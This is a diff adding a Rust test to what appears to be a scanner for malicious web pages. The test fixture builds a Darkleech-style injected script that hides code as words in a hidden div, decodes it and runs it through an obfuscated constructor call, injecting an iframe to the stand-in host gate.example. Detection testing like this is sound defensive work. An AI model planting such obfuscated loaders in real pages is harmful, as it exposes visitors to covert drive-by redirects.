@@ -79,3 +79,31 @@ fn rotating_paths_of_bot_managers_are_for_a_person() {
     let found = rewritten("hidden-frame", &script("A1b2C3d4/xYz12/q9"), &script("Zz9Yy8Xx/k2L/m7N"));
     assert_eq!(outcome(&found), Outcome::Review, "{found:#?}");
 }
+
+/// Code as pseudo-Darkleech hid it: in a hidden element, each letter a word whose length and digits say which one.
+fn hidden_words(code: &str) -> String {
+    let words =
+        code.bytes().map(|byte| format!("{}{}", "qwrtpsdf".get(..usize::from(byte / 16)).unwrap_or("q"), byte % 16));
+    words.collect::<Vec<_>>().join(" ")
+}
+
+#[test]
+fn code_in_the_words_of_a_hidden_element_is_read() {
+    let hidden = hidden_words("document.write('<iframe src=//gate.example/in></iframe>')");
+    let page = |read: &str| {
+        format!(
+            "<div id='vrtp' style='display:none'>{hidden}</div><script>var x='',w={read}.split(' ');\
+             for(var i=0;i<w.length;i++){{var l=w[i].replace(/[0-9]/g,'').length;\
+             x+=String.fromCharCode(l*16+parseInt(w[i].substr(l),10))}}var a=\"\\x63\\x6f\\x6e\\x73tructor\";[][a][a](x)()</script>"
+        )
+    };
+    for read in [
+        "document.getElementById('vrtp').innerHTML",
+        "document.querySelector('#vrtp').textContent",
+        "document['getElem'+'entById']('vr'+'tp').firstChild.nodeValue",
+    ] {
+        let parsed = hinomi::parse::page(page(read).as_bytes(), &hinomi::parse::Options::default());
+        let markup: Vec<_> = hinomi::script::reports(&parsed).into_iter().flat_map(|report| report.markup).collect();
+        assert_eq!(markup, ["<iframe src=//gate.example/in></iframe>"], "{read}");
+    }
+}
